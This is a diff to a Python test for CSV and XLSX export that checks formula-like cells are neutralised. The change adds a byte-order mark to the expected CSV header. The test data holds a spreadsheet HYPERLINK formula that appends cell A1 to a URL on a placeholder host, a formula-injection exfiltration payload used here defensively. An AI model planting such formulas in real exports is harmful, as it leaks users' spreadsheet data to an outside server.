@@ -25,7 +25,7 @@ def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers(value, wr
 
 def test_csv_and_xlsx_cells_are_neutralised():
     assert csv_text(["a", "b"], [[EVIL, "-1.25"]]) == \
-        'a,b\n"\'=HYPERLINK(""http://x/?""&A1,""x"")",-1.25\n'
+        '\ufeffa,b\n"\'=HYPERLINK(""http://x/?""&A1,""x"")",-1.25\n'
     book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", ["key", "points"],
                                                                [[EVIL, "-1.25"]],
                                                                decimals={"points"})])))
